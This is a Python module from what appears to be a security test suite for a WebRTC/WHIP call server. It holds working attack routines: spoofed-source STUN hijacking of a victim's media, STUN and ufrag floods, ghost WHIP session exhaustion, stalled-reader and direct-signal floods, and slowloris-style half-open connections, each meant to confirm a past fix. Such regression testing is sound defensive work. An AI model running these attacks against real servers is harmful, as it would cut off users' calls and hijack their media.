"""The attacks of the attack suite, one a function, each run from the attacker's own
network namespace for a given number of seconds while a real call goes on. Each
prints one JSON line: what it sent and what the server did to it.

    python3 attacks.py NAME --server IP:PORT --seconds S [options]

Run by suite.py; by hand only against a server you run yourself.
"""

import argparse
import json
import random
import socket
import sys
import threading
import time

import wire


def _pace(rate, seconds, send):
    """Calls send() `rate` times a second (in bursts every 10 ms) for `seconds`."""
    start = time.monotonic()
    sent = 0
    while True:
        now = time.monotonic() - start
        if now >= seconds:
            return sent
        due = int(now * rate) + 1
        while sent < due:
            send()
            sent += 1
        time.sleep(0.01)


def _random_source(subnet):
    a, b = subnet
    return (f"{a}.{b}.{random.randrange(128, 256)}.{random.randrange(1, 255)}",
            random.randrange(1024, 65536))


def none(o):
    """Nothing: the call alone, for comparison."""
    time.sleep(o.seconds)
    return {}


def hijack(o):
    """The attacker's own WHIP session, then binding requests with its own (valid)
    credentials from the victim's address: before the fix, the server moved the
    victim's address to the attacker's session and the victim's media stopped."""
    session = wire.WhipSession(o.host, o.port, "attacker-lobby")
    vip, vport = o.victim.rsplit(":", 1)
    spoof = wire.Spoofer()
    dst = (o.host, o.port)
    sent = _pace(o.rate or 50, o.seconds,
                 lambda: spoof.send((vip, int(vport)), dst, session.binding_request()))
    return {"sent": sent}


def stun_sources(o):
    """Valid binding requests for the attacker's own session from ever new source
    addresses: before the fix, each one grew the session's address list and made
    every request slower."""
    session = wire.WhipSession(o.host, o.port, "attacker-lobby")
    spoof = wire.Spoofer()
    dst = (o.host, o.port)
    subnet = tuple(o.host.split(".")[:2])
    sent = _pace(o.rate or 2000, o.seconds,
                 lambda: spoof.send(_random_source(subnet), dst, session.binding_request()))
    return {"sent": sent}


def unknown_ufrag(o):
    """Binding requests for sessions that do not exist, from random sources: before
    the fix, each grew the receive task's route map, for good."""
    spoof = wire.Spoofer()
    dst = (o.host, o.port)
    subnet = tuple(o.host.split(".")[:2])

    def one():
        user = f"{random.getrandbits(40):010x}:{random.getrandbits(20):05x}"
        spoof.send(_random_source(subnet), dst, wire.stun_request(user, None))

    return {"sent": _pace(o.rate or 40000, o.seconds, one)}


def ghost_whip(o):
    """WHIP sessions that never connect, as many as the server takes: before the fix
    they stayed for ever and filled rooms and memory."""
    statuses = {}
    start = time.monotonic()
    while time.monotonic() - start < o.seconds:
        try:
            status, _, _ = wire.https(
                o.host, o.port, "POST", f"/whip/{o.room or 'ghosts'}",
                wire.whip_offer("ghost", "ghostghostghostghostgh"),
                {"Content-Type": "application/sdp"},
            )
        except OSError as e:
            status = type(e).__name__
        statuses[str(status)] = statuses.get(str(status), 0) + 1
        if status != 201:
            # Refused (a limit): ask again a little later, as a script would.
            time.sleep(0.05)
    return {"statuses": statuses}


def stalled_ws(o):
    """A participant that keeps talking but never reads, while another of the
    attacker's connections pushes large direct signals at it: before the fix it held
    its seat (and the server's buffers) for as long as TCP kept the connection."""
    stalled = wire.WebSocket(o.host, o.port, recv_buffer=4096)
    stalled.send({"type": "join", "room": o.room, "name": "stalled", "mode": "relay"})
    time.sleep(0.5)
    pusher = wire.WebSocket(o.host, o.port)
    pusher.send({"type": "join", "room": o.room, "name": "pusher", "mode": "relay"})
    joined = pusher.recv_until("joined")
    if joined is None:
        raise RuntimeError("the pusher was not let in")
    target = next(p["id"] for p in joined["peers"] if p["name"] == "stalled")
    threading.Thread(target=lambda: [None for _ in iter(pusher.recv, None)], daemon=True).start()
    big = {"kind": "offer", "sdp": "a" * 60000}
    start = time.monotonic()
    closed_after = None
    last_talk = 0.0
    while time.monotonic() - start < o.seconds:
        now = time.monotonic() - start
        try:
            pusher.send({"type": "direct", "to": target, "signal": big})
        except OSError:
            break
        if closed_after is None and now - last_talk >= 1.0:
            last_talk = now
            try:
                # Not silent: the server hears from it, so only its not reading counts.
                stalled.send({"type": "media", "audio": True, "video": True})
            except OSError:
                closed_after = round(now, 1)
        time.sleep(0.05)
    pusher.close()
    stalled.close()
    return {"stalled_closed_after_s": closed_after}


def direct_flood(o):
    """Large direct signals as fast as the attacker can send them, at a participant of
    the call: before the fix, the victim's queue overflowed and the server dropped
    the victim."""
    ws = wire.WebSocket(o.host, o.port)
    ws.send({"type": "join", "room": o.room, "name": "flooder", "mode": "relay"})
    joined = ws.recv_until("joined")
    if joined is None:
        raise RuntimeError("the flooder was not let in")
    target = next(p["id"] for p in joined["peers"] if p["name"] == o.victim)
    refused = [0]

    def read():
        while True:
            msg = ws.recv()
            if msg is None:
                return
            if msg.get("type") == "error" and msg.get("code") == "rateLimited":
                refused[0] += 1

    threading.Thread(target=read, daemon=True).start()
    big = {"kind": "offer", "sdp": "a" * 60000}
    start = time.monotonic()
    sent = 0
    while time.monotonic() - start < o.seconds:
        try:
            ws.send({"type": "direct", "to": target, "signal": big})
        except OSError:
            break
        sent += 1
    time.sleep(0.5)
    ws.close()
    return {"sent": sent, "rate_limited": refused[0]}


def half_open(o):
    """Connections that send half a request's headers and then nothing, more than one
    address may hold: before the fix they were never timed out and, past the
    open-file limit, kept every new client out."""
    held, refused_at_once = [], 0
    for i in range(o.count):
        try:
            s = socket.create_connection((o.host, o.port), timeout=2)
            s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: 1\r\n")
            held.append(s)
        except OSError:
            refused_at_once += 1
    # Which of them the server closed at once (over the limit per address).
    time.sleep(0.5)
    closed_at_once = sum(1 for s in held if _closed(s))
    time.sleep(max(0.0, o.seconds - 0.5))
    closed_by_end = sum(1 for s in held if _closed(s))
    for s in held:
        s.close()
    return {
        "opened": len(held),
        "refused": refused_at_once,
        "closed_at_once": closed_at_once,
        "closed_by_end": closed_by_end,
    }


def _closed(s):
    s.setblocking(False)
    try:
        return s.recv(1, socket.MSG_PEEK) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


ATTACKS = {f.__name__.replace("_", "-"): f for f in
           (none, hijack, stun_sources, unknown_ufrag, ghost_whip, stalled_ws, direct_flood, half_open)}


def main():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("attack", choices=sorted(ATTACKS))
    p.add_argument("--server", required=True, help="IP:PORT of HTTPS and UDP media")
    p.add_argument("--seconds", type=float, default=10)
    p.add_argument("--rate", type=int, default=0, help="datagrams a second (floods)")
    p.add_argument("--victim", help="hijack: IP:PORT; direct-flood: a participant's name")
    p.add_argument("--room", help="the room of the call")
    p.add_argument("--count", type=int, default=300, help="half-open: connections")
    o = p.parse_args()
    o.host, port = o.server.rsplit(":", 1)
    o.port = int(port)
    result = ATTACKS[o.attack](o)
    print(json.dumps({"attack": o.attack, **result}), flush=True)


if __name__ == "__main__":
    sys.exit(main())
